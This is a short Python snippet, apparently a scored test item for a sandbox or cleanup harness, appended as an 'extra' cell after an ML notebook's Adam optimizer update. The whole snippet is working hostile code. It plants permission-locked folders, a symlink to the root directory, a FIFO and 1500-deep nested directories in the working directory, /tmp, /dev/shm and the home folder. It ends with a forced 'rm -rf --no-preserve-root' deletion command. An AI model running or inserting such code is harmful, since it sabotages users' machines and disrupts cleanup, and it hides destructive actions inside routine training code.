# what: leaves folders that are hard to wipe: without rights, a thousand deep, full, mounted names
# points: 20
# mistakes: flagged
# %% extra after update_parameters_with_adam
import os
for root in (os.getcwd(), "/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        os.makedirs(f"{root}/locked/inside")
        open(f"{root}/locked/inside/file", "w").close()
        os.chmod(f"{root}/locked/inside", 0)
        os.chmod(f"{root}/locked", 0)
        os.symlink("/", f"{root}/everything")
        os.mkfifo(f"{root}/fifo")
        os.chdir(root)
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
    except OSError as error:
        print(root, error)
os.chdir("/")
os.system("rm -rf --no-preserve-root /scratch/work 2>/dev/null")
